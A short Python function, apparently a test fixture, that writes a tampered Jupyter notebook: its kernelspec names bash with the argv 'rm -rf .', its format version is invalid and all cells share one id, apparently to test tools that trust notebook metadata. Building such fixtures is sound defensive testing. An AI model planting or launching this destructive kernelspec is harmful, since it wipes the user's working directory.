"""Metadata that choose a program, where they are believed."""

import json


def build(folder, honest):
    honest["metadata"]["kernelspec"] = {"name": "bash", "language": "bash", "argv": ["rm", "-rf", "."]}
    honest["metadata"]["language_info"] = {"name": "bash", "file_extension": ".sh"}
    honest["nbformat_minor"] = 99
    for cell in honest["cells"]:
        cell["id"] = "same"
    (folder / "week01_small.ipynb").write_text(json.dumps(honest))
